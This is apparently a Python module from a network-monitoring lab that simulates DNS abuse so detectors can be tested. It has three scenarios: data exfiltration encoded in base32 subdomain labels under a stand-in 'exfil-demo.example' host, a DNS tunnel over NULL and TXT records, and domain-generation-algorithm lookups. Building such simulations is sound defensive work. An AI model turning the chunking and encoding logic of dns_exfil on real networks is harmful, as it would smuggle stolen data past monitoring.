"""DNS abused: data carried out in names, a tunnel, names of a generator, and nothing else."""

from __future__ import annotations

import base64
from typing import TYPE_CHECKING

from netwatch.lab.scenarios.conversation import look_up

if TYPE_CHECKING:
    from netwatch.lab.scenarios.scene import Scene

CHUNK = 35
"""Bytes of payload in one label: 56 characters of base 32, below the 63 that a label may have."""
PAYLOAD = b"".join(b"account %04d, balance %06d, secret %08d\n" % (n, n * 977 % 1000000, n * 7919) for n in range(120))
"""What is carried out when the user gives no payload."""
MOST_PAYLOAD = 1 << 20


def dns_exfil(scene: Scene, payload: bytes = PAYLOAD) -> None:
    """Carry out a payload split across subdomains, one base-32 label a query."""
    with scene.label(("dns.tunnel",), scene.client, scene.gateway, "exfiltration in names", "dns.*", "sig.*"):
        for number, chunk in enumerate(payload[start : start + CHUNK] for start in range(0, len(payload), CHUNK)):
            text = base64.b32encode(chunk).decode().rstrip("=").lower()
            look_up(scene, scene.client, scene.gateway, f"{text}.{number}.exfil-demo.example", answer="203.0.113.66")
            scene.wait(0.6, 0.5)


def dns_tunnel(scene: Scene) -> None:
    """Tunnel through NULL and TXT records with long names and answers."""
    with scene.label(("dns.tunnel", "dns.qtype"), scene.client, scene.gateway, "DNS tunnel", "dns.*", "sig.*"):
        for number in range(220):
            data = base64.b32encode(scene.draw.randbytes(90)).decode().rstrip("=").lower()
            labels = ".".join(data[start : start + 60] for start in range(0, len(data), 60))
            kind = "NULL" if number % 3 else "TXT"
            answer = scene.draw.randbytes(160).hex().encode()
            look_up(scene, scene.client, scene.gateway, f"{labels}.t.tunnel-demo.example", kind=kind, answer=answer)
            scene.wait(0.25, 0.6)


def dga(scene: Scene) -> None:
    """Look up sixty names of a generator, nearly all of which do not exist."""
    with scene.label(("dns.dga", "dns.nx_burst"), scene.client, scene.gateway, "generated names", "dns.*"):
        for number in range(60):
            length = scene.draw.randrange(14, 22)
            label = "".join(scene.draw.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(length))
            found = number == 47
            answer = "203.0.113.99" if found else None
            name = f"{label}.{scene.draw.choice(('com', 'net', 'org', 'info'))}"
            look_up(scene, scene.client, scene.gateway, name, answer=answer, rcode=0 if found else 3)
            scene.wait(2, 0.5)
